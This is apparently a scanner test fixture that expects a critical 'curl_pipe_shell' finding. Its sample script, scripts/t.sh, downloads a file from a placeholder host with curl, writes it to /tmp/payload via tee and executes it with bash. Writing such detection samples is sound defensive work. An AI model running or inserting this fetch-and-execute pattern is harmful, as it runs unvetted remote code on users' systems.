# expect: shell.curl_pipe_shell critical
# note: the download written by tee, then run
# path: scripts/t.sh
#!/bin/sh
curl -s https://get.example.net/x | tee /tmp/payload >/dev/null
bash /tmp/payload
